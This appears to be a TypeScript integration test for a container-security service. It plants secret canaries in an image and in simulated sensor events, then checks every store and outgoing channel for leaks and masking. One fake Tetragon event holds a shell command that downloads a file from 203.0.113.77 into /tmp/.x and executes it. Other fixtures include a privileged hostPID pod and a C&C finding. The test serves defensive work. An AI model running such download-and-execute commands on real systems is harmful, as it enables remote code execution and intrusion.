import { createHash, randomUUID } from 'node:crypto';
import { gunzipSync, inflateSync, zstdDecompressSync } from 'node:zlib';

import { jetstreamManager } from '@nats-io/jetstream';
import { Bus } from '@tidewaiter/bus';
import { Secret } from '@tidewaiter/domain';
import { currentRun, freePort } from '@tidewaiter/servers';
import {
  buildImage,
  httpSink,
  type HttpSink,
  mailSink,
  type MailSink,
  pushImage,
  slackSink,
  type SlackSink,
  startRegistry,
  type TestRegistry,
} from '@tidewaiter/testkit';
import { Redis } from 'ioredis';
import { Client } from 'pg';

import { canaries, type Canary, formsOf } from './canaries.js';
import { debian12, dpkgStatus } from './fixtures.js';
import { makeHome, removeFolders, startTidewaiter, temporaryFolder, type Tidewaiter, until } from './tidewaiter.js';

// Secrets of many kinds are planted wherever text comes in, and looked for wherever text is kept or goes out.

const hookSecret = 'hook-of-the-canary-test';
const sensorToken = 'sensor-of-the-canary-test';
const channel = 'C0000001';
const container = createHash('sha256').update('canaries').digest('hex');
/** Is no secret, and stands beside each of them: a search that does not find it finds nothing. */
const control = `control-${randomUUID().slice(0, 8)}`;
const planted = canaries(createHash('sha256').update(control).digest());

let slack: SlackSink;
let mail: MailSink;
let webhook: HttpSink;
let registry: TestRegistry;
let tidewaiter: Tidewaiter;
let digest: string;

beforeAll(async () => {
  [slack, mail, webhook] = await Promise.all([
    slackSink(),
    mailSink(),
    // Says what it was sent when it refuses, as many receivers do.
    httpSink(({ text, path }) => ({ status: path === '/fails' ? 400 : 200, body: { error: text } })),
  ]);
  const ingestPort = await freePort();
  registry = await startRegistry({
    notify: {
      url: `http://127.0.0.1:${ingestPort}/hooks/registry/main`,
      headers: { Authorization: `Bearer ${hookSecret}` },
    },
  });
  const sensors = [
    'tetragon',
    'falco',
    'tracee',
    'kubernetes-audit',
    'kubernetes-watch',
    'cloudtrail',
    'guardduty',
    'cri',
    'generic',
  ];
  const home = makeHome({
    'tidewaiter.yaml': `
registries:
  - { name: main, kind: distribution, url: "${registry.url}", webhookSecret: ${hookSecret}, allowPrivate: true }
  - { name: other, kind: generic, url: "http://127.0.0.1:9", webhookSecret: ${hookSecret}, allowPrivate: true }
sensors:
${sensors.map((kind) => `  - { name: ${kind}, kind: ${kind}, cluster: eu1, token: ${sensorToken}${kind === 'generic' ? ', fields: { id: id, at: time, process.commandLine: cmd }' : ''} }`).join('\n')}
`,
    'routing.yaml': `
global: { smtp_smarthost: "127.0.0.1:${mail.port}", smtp_from: tidewaiter@example.com, smtp_require_tls: false }
route:
  receiver: all
receivers:
  - name: all
    slack_configs: [ { app_token: xoxb-test, app_url: "${slack.apiUrl}/chat.postMessage", channel: ${channel} } ]
    email_configs: [ { to: security@example.com } ]
    webhook_configs: [ { url: "${webhook.url}/ok" }, { url: "${webhook.url}/fails" } ]
`,
  });
  tidewaiter = await startTidewaiter(home, ingestPort);
}, 240_000);

afterAll(async () => {
  await tidewaiter?.stop();
  await Promise.all([registry?.stop(), slack?.stop(), mail?.stop(), webhook?.stop()]);
  await removeFolders();
});

async function post(path: string, ...events: object[]): Promise<number> {
  const answer = await fetch(`${tidewaiter.ingestUrl}/hooks/${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${path.startsWith('registry') ? hookSecret : sensorToken}` },
    body: events.map((event) => JSON.stringify(event)).join('\n'),
  });
  await answer.text();
  return answer.status;
}

const now = () => new Date().toISOString();

let serial = 0;

function tetragon(binary: string, args: string): object {
  serial += 1;
  const pod = {
    namespace: 'shop',
    name: 'canary-7d4c9f6b5-x2x9k',
    container: {
      id: `containerd://${container}`,
      name: 'canary',
      image: { id: `${registry.host}/shop/canary@${digest}`, name: `${registry.host}/shop/canary:1` },
    },
  };
  const process = {
    exec_id: `n:${serial}`,
    pid: serial,
    uid: 0,
    cwd: '/',
    binary,
    arguments: args,
    start_time: now(),
    pod,
  };
  return { process_exec: { process, parent: { ...process, exec_id: 'n:0' } }, node_name: 'n', time: now() };
}

/** An image with the secrets in its files and its configuration. */
async function pushCanaryImage(): Promise<void> {
  const dir = temporaryFolder();
  await buildImage(dir, {
    layers: [
      [debian12, dpkgStatus({ dash: '0.5.12-2' })],
      planted.map(({ name, text }) => ({ path: `app/${name}.env`, content: `# ${control}\n${text}\n` })),
    ],
    config: {
      Env: planted.map(({ name, text }, index) => `V${index}=${control} ${name} ${text}`),
      Labels: { note: planted.map(({ text }) => text).join('\n'), control },
      Cmd: ['/bin/sh', '-c', planted.map(({ text }) => text).join('\n')],
    },
  });
  digest = await pushImage(registry, 'shop/canary:1', `oci:${dir}:latest`);
  await until('the push is read', async () => {
    const { items } = await tidewaiter.api<{ items: { state: string }[] }>('/pushes');
    return items.some(({ state }) => state === 'analyzed');
  });
}

/** Every sensor reports each secret in the members in which it could come. */
async function reportSecrets({ text, name }: Canary): Promise<void> {
  const audit = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    auditID: randomUUID(),
    stage: 'ResponseComplete',
    verb: 'create',
    requestURI: `/api/v1/namespaces/shop/pods?note=${encodeURIComponent(text)}`,
    user: { username: `${control} dev`, extra: { note: [text] } },
    userAgent: `kubectl ${text}`,
    annotations: { note: text },
    objectRef: { resource: 'pods', namespace: 'shop', name: 'p' },
    requestObject: {
      kind: 'Pod',
      metadata: { annotations: { note: text, control } },
      spec: {
        hostPID: true,
        containers: [
          {
            name: 'c',
            env: [{ name: 'V', value: text }],
            command: ['sh', '-c'],
            args: [text],
            securityContext: { privileged: true },
          },
        ],
      },
    },
    responseStatus: { code: 201 },
    requestReceivedTimestamp: now(),
    stageTimestamp: now(),
  };
  const falco = {
    rule: `Canary ${name}`,
    time: now(),
    priority: 'Critical',
    hostname: 'n',
    output: `${control} command=${text}`,
    output_fields: {
      'proc.cmdline': text,
      'proc.pcmdline': text,
      'proc.exepath': '/bin/sh',
      'container.id': container.slice(0, 12),
    },
  };
  const tracee = {
    timestamp: Date.now() * 1e6,
    eventName: 'execve',
    hostName: 'n',
    processName: 'sh',
    containerId: container,
    args: [
      { name: 'pathname', value: '/bin/sh' },
      { name: 'argv', value: ['sh', '-c', text, control] },
      { name: 'envp', value: [text] },
    ],
  };
  const cloud = {
    eventID: randomUUID(),
    eventVersion: '1.10',
    eventTime: now(),
    eventSource: 'iam.amazonaws.com',
    eventName: 'CreateAccessKey',
    userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/dev' },
    sourceIPAddress: '203.0.113.9',
    userAgent: text,
    requestParameters: { userName: 'admin', note: text, control },
  };
  const guard = {
    version: '0',
    'detail-type': 'GuardDuty Finding',
    source: 'aws.guardduty',
    time: now(),
    detail: {
      id: randomUUID(),
      type: 'Backdoor:Runtime/C&CActivity.B',
      severity: 8,
      title: `${control} ${text}`,
      description: text,
      region: 'eu-west-1',
      accountId: '123456789012',
      resource: {},
      service: { eventFirstSeen: now(), eventLastSeen: now(), action: {} },
      createdAt: now(),
      updatedAt: now(),
    },
  };
  const watched = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: `p-${name}`, namespace: 'shop', uid: randomUUID(), annotations: { note: text, control } },
    spec: { containers: [{ name: 'c', image: 'a:1', args: [text], env: [{ name: 'V', value: text }] }] },
    status: {},
  };
  const cri = {
    containers: [
      {
        id: createHash('sha256').update(name).digest('hex'),
        metadata: { name: 'c' },
        state: 'CONTAINER_RUNNING',
        createdAt: String(Date.now() * 1e6),
        annotations: { note: text, control },
        labels: {},
      },
    ],
    node: 'n',
  };
  const shell = tetragon(
    '/bin/sh',
    `-c "echo ${control}; ${text}; curl -s http://203.0.113.77/x -o /tmp/.x/k; /tmp/.x/k"`,
  );
  const statuses = await Promise.all([
    post('runtime/tetragon', shell, tetragon('/tmp/.x/k', text)),
    post('runtime/falco', falco),
    post('runtime/tracee', tracee),
    post('runtime/kubernetes-audit', audit),
    post('runtime/kubernetes-watch', { type: 'ADDED', object: watched }),
    post('runtime/cloudtrail', cloud),
    post('runtime/guardduty', guard),
    post('runtime/cri', cri),
    post('runtime/generic', { id: randomUUID(), time: now(), cmd: `${control} ${text}` }),
    post('registry/other', {
      type: 'container.image.push',
      data: {
        repository: 'shop/none',
        tag: name,
        digest: `sha256:${createHash('sha256').update(name).digest('hex')}`,
        actor: `${control} ${text}`,
      },
    }),
  ]);
  expect(statuses.every((status) => status < 500)).toBe(true);
  expect(statuses.slice(0, 9)).toEqual(Array.from({ length: 9 }, () => 202));
}

/** What is kept and what was sent, by where it is. */
async function everything(): Promise<Map<string, string>> {
  const found = new Map<string, string>();
  const run = (await currentRun(`${tidewaiter.home}/.tidewaiter`))!;
  found.set('log', JSON.stringify(tidewaiter.log()));
  found.set('Slack', JSON.stringify(slack.channel(channel)));
  found.set('mail', JSON.stringify(mail.received));
  found.set('webhook', JSON.stringify(webhook.received));
  await readTables(run.urls!.database, found);
  await readStreams(run.urls!.nats, found);
  await readRedis(run.urls!.redis, found);
  for (const { name, url } of run.services)
    found.set(`metrics of ${name}`, await (await fetch(`${url}/metrics`)).text());
  await readAnswers(found);
  return found;
}

async function readTables(url: string, found: Map<string, string>): Promise<void> {
  const client = new Client({ connectionString: url });
  await client.connect();
  const { rows } = await client.query<{ name: string }>(
    `SELECT c.relname AS name FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'public' AND c.relkind IN ('r', 'p')`,
  );
  for (const { name } of rows) {
    const table = await client.query<Record<string, unknown>>(`SELECT * FROM "${name}"`);
    const texts = table.rows.flatMap((row) => Object.values(row).map(textOf));
    if (texts.length > 0) found.set(`table ${name}`, texts.join('\n'));
  }
  await client.end();
}

/** Columns of bytes are packed in one of three ways. */
function textOf(value: unknown): string {
  if (!Buffer.isBuffer(value)) return typeof value === 'string' ? value : (JSON.stringify(value) ?? '');
  for (const unpack of [zstdDecompressSync, gunzipSync, inflateSync]) {
    try {
      return unpack(value).toString('latin1');
    } catch {
      continue;
    }
  }
  return value.toString('latin1');
}

async function readStreams(url: string, found: Map<string, string>): Promise<void> {
  const bus = await Bus.connect('test', new Secret(url));
  const manager = await jetstreamManager(bus.connection);
  for await (const { config, state } of manager.streams.list()) {
    const texts: string[] = [];
    for (let seq = state.first_seq; seq <= state.last_seq; seq += 1) {
      const message = await manager.streams.getMessage(config.name, { seq }).catch(() => null);
      if (message) texts.push(`${message.subject} ${Buffer.from(message.data).toString()}`);
    }
    if (texts.length > 0) found.set(`stream ${config.name}`, texts.join('\n'));
  }
  await bus.onApplicationShutdown();
}

async function readRedis(url: string, found: Map<string, string>): Promise<void> {
  const redis = new Redis(url);
  const texts: string[] = [];
  for (const key of await redis.keys('*')) texts.push(key, (await redis.dump(key)) ?? '');
  found.set('Redis', texts.join('\n'));
  redis.disconnect();
}

/** Every route that answers without a body, with the ids that the lists have. */
async function readAnswers(found: Map<string, string>): Promise<void> {
  const { paths } = await tidewaiter.api<{ paths: Record<string, { get?: unknown }> }>('/openapi.json');
  const lists = Object.entries(paths).filter(([path, { get }]) => get !== undefined && !path.includes('{'));
  for (const [path] of lists) await readAnswer(path.replace(/^\/api\/v1/, ''), found);
  for (const [path, { get }] of Object.entries(paths)) {
    const [, list, rest] = /^(?:\/api\/v1)?(\/[^{]+)\/\{[^}]+\}(.*)$/.exec(path) ?? [];
    if (get === undefined || list === undefined || rest?.includes('{')) continue;
    const items = (JSON.parse(found.get(`GET ${list}`) ?? '{}') as { items?: Record<string, string>[] }).items ?? [];
    for (const { id, digest: own } of items.slice(0, 5)) await readAnswer(`${list}/${own ?? id}${rest}`, found);
  }
}

async function readAnswer(path: string, found: Map<string, string>): Promise<void> {
  if (path.includes('stream')) return;
  const answer = await tidewaiter.api<unknown>(path).catch(() => null);
  if (answer !== null) found.set(`GET ${path}`, JSON.stringify(answer));
}

describe('secrets in everything that comes in', () => {
  let places: Map<string, string>;

  beforeAll(async () => {
    await pushCanaryImage();
    for (const canary of planted) await reportSecrets(canary);
    await until(
      'an incident is open',
      async () => (await tidewaiter.api<{ items: unknown[] }>('/incidents')).items.length > 0,
    );
    await until(
      'messages are sent',
      () => webhook.received.length > 0 && mail.received.length > 0 && slack.channel(channel).length > 0,
    );
    await until('a delivery has failed', () => webhook.received.some(({ path }) => path === '/fails'));
    // The snapshot of the detector comes after half a minute.
    await new Promise((done) => setTimeout(done, 35_000));
    places = await everything();
  }, 240_000);

  it('are at least sixty', () => {
    expect(planted.length).toBeGreaterThanOrEqual(60);
  });

  it.each([
    'table detection_alert',
    'table incident',
    'table push',
    'table image_finding',
    'stream TIDEWAITER_RUNTIME',
    'webhook',
    'mail',
    'Slack',
    'Redis',
    'log',
  ])('come to %s, whose text is searched', (place) => {
    expect(places.get(place)?.length ?? 0).toBeGreaterThan(10);
  });

  it('leave the text beside them, and masks', () => {
    const all = [...places.values()].join('\n');
    expect(all).toContain('****');
    const withControl = [...places].filter(([, text]) => text.includes(control)).map(([place]) => place);
    expect(withControl).toEqual(expect.arrayContaining(['stream TIDEWAITER_RUNTIME', 'table incident']));
  });

  it('leave in no form, anywhere', () => {
    const hits: string[] = [];
    for (const [place, text] of places) {
      for (const { name, secret } of planted) {
        const form = formsOf(secret).find(({ written }) => text.includes(written));
        if (form) hits.push(`${name} as ${form.form} in ${place}`);
      }
    }
    expect(hits).toEqual([]);
  });
});
